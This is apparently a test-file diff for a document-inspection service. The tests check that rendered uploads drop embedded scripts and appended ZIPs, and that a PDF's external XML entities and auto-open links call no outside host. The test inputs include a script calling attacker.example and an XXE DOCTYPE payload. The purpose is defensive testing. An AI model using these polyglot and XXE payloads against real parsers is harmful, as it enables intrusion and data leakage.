@@ -3,8 +3,10 @@
 import errno
 import os
 import socket
+from contextlib import suppress
 from datetime import timedelta
 
+import pikepdf
 import pytest
 from django.utils import timezone
 
@@ -15,6 +17,7 @@ from documents import inspection, processes
 from documents.inspection import ATTEMPTS, inspect_now
 from documents.models import Document, State
 from documents.processes import Verdict, inspect
+from documents.services import Refused, rendition
 from documents.storage import storage
 from documents.sweeping import inspect_forgotten
 from tests.documents import samples
@@ -298,3 +301,71 @@ def test_what_was_quarantined_never_becomes_ready(bring):
     assert inspect_now(document.pk) is None
     with pytest.raises(Exception, match="not possible"):
         perform(document.pass_inspection, by=system(), facts={})
+
+
+# ------------------------------------------------------------------------------------------- what is carried along
+SCRIPT = b"<html><script>fetch('http://attacker.example')</script></html>"
+XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/">]><x>&e;</x>'
+
+
+def _with_comment(data):
+    """A JPEG whose comment is a web page."""
+    return data[:2] + b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT + data[2:]
+
+
+POLYGLOTS = {
+    "a JPEG with a web page in its comment": (_with_comment(samples.photo()), "a.jpg"),
+    "a JPEG with a web page behind it": (samples.photo() + SCRIPT, "a.jpg"),
+    "a JPEG with a ZIP behind it": (samples.photo() + b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18), "a.jpg"),
+    "a PNG with a web page behind it": (samples.png() + SCRIPT, "a.png"),
+    "a PDF with a web page before its end": (samples.pdf().replace(b"startxref", SCRIPT + b"\nstartxref"), "a.pdf"),
+}
+
+
+@pytest.mark.parametrize(("data", "name"), POLYGLOTS.values(), ids=POLYGLOTS)
+def test_of_a_file_that_is_two_things_nothing_active_is_shown(bring, alice, data, name):
+    document = inspect_now(bring(data, name=name).pk)
+    if document.state == State.READY:
+        shown = rendition(document, by=alice, purpose="test").data
+        assert shown[:3] == b"\xff\xd8\xff" and b"script" not in shown and b"PK\x03\x04" not in shown
+    else:
+        assert document.state == State.UNSCANNABLE
+
+
+def _with_xml(port):
+    def change(document):
+        metadata = document.make_stream(XXE.format(port=port).encode())
+        metadata.Type, metadata.Subtype = pikepdf.Name.Metadata, pikepdf.Name.XML
+        document.Root.Metadata = metadata
+        document.Root.URI = pikepdf.Dictionary(Base=f"http://127.0.0.1:{port}/")
+        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"http://127.0.0.1:{port}/open")
+        document.Root.OpenAction = link
+
+    return change
+
+
+def test_nothing_in_a_file_makes_us_call_anybody(bring, alice):
+    """External entities, addresses to open, a base for relative ones: looked at and drawn, nobody is called."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.3)
+    data = samples.pdf(change=_with_xml(server.getsockname()[1]))
+    document = inspect_now(bring(data, name="a.pdf").pk)
+    assert document.state == State.READY
+    rendition(document, by=alice, purpose="test")
+    with pytest.raises(TimeoutError):
+        server.accept()
+    server.close()
+
+
+def test_noise_of_every_kind_harms_nobody(bring):
+    """Files with the right beginning and end and noise between: refused or unreadable, never an error."""
+    for number in range(4):
+        noise = os.urandom(2000 + number)
+        for data, name in (
+            (b"\xff\xd8\xff\xe0" + noise + b"\xff\xd9", "a.jpg"),
+            (samples.png()[:33] + noise + samples.png()[-12:], "a.png"),
+            (b"%PDF-1.4\n" + noise + b"\nstartxref\n0\n%%EOF", "a.pdf"),
+        ):
+            with suppress(Refused):
+                document = inspect_now(bring(data, name=name).pk)
+                assert document.state in (State.UNSCANNABLE, State.READY)
